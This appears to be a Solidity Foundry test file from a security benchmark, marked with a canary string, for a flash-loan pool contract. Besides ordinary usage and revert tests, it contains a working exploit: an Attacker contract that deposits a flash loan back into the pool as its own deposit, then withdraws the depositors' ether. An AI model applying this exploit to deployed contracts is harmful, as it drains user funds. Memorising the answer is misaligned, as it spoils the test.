// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FlashPool.sol";

// assay-canary-ba792299-fcfb-4ac8-9e5b-458efd452392

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Trader is IBorrower {
    uint256 private back;
    FlashPool private pool;
    uint256 private kind;

    constructor(FlashPool p) payable {
        pool = p;
    }

    function trade(uint256 amount, uint256 short, uint256 k) external {
        back = short;
        kind = k;
        pool.lend(amount);
    }

    function onLoan(uint256 amount, uint256 fee) external payable {
        if (kind == 1) pool.lend(1);
        if (kind == 2) pool.withdraw(0);
        if (kind == 3) pool.takeFees();
        (bool ok, ) = address(pool).call{value: amount + fee - back}("");
        require(ok, "repaid");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    FlashPool private pool;
    Trader private trader;
    Attacker private mallory;

    function setUp() public {
        pool = new FlashPool();
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANA);
        pool.deposit{value: 15 ether}();
        vm.prank(BEN);
        pool.deposit{value: 5 ether}();
        vm.deal(address(this), 1 ether);
        trader = new Trader{value: 1 ether}(pool);
        mallory = new Attacker(pool);
        vm.deal(address(mallory), 0.1 ether);
    }

    function test_Regular() public {
        trader.trade(20 ether, 0, 0);
        vm.startPrank(ANA);
        pool.takeFees();
        require(ANA.balance == 5.0135 ether, "three quarters of the fee");
        pool.withdraw(15 ether);
        vm.stopPrank();
        vm.startPrank(BEN);
        pool.withdraw(2 ether);
        pool.takeFees();
        require(BEN.balance == 17.0045 ether && pool.total() == 3 ether, "a quarter");
        vm.stopPrank();
        (bool ok, ) = address(pool).call("");
        require(ok, "gift");
    }

    function test_RefusesInput() public {
        vm.startPrank(ANA);
        vm.expectRevert(FlashPool.NothingGiven.selector);
        pool.deposit();
        vm.expectRevert(abi.encodeWithSelector(FlashPool.TooMuch.selector, 15 ether));
        pool.withdraw(15 ether + 1);
        vm.expectRevert(FlashPool.NothingGiven.selector);
        pool.takeFees();
        vm.expectRevert(abi.encodeWithSelector(FlashPool.TooMuch.selector, 20 ether));
        pool.lend(0);
        vm.expectRevert(abi.encodeWithSelector(FlashPool.TooMuch.selector, 20 ether));
        pool.lend(20 ether + 1);
        vm.stopPrank();
    }

    function test_RefusesLoans() public {
        vm.expectRevert(abi.encodeWithSelector(FlashPool.NotRepaid.selector, 1));
        trader.trade(20 ether, 1, 0);
        bytes memory locked = abi.encodeWithSignature("ReentrancyGuardReentrantCall()");
        vm.expectRevert(locked);
        trader.trade(20 ether, 0, 1);
        vm.expectRevert(locked);
        trader.trade(20 ether, 0, 2);
        vm.expectRevert(locked);
        trader.trade(20 ether, 0, 3);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 19.1 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker is IBorrower {
    FlashPool private pool;

    constructor(FlashPool p) {
        pool = p;
    }

    receive() external payable {}

    function run() external {
        pool.lend(20 ether);
        pool.withdraw(20 ether);
    }

    function onLoan(uint256 amount, uint256 fee) external payable {
        require(msg.sender == address(pool), "pool");
        pool.deposit{value: amount}();
        (bool ok, ) = address(pool).call{value: fee}("");
        require(ok, "fee");
    }
}
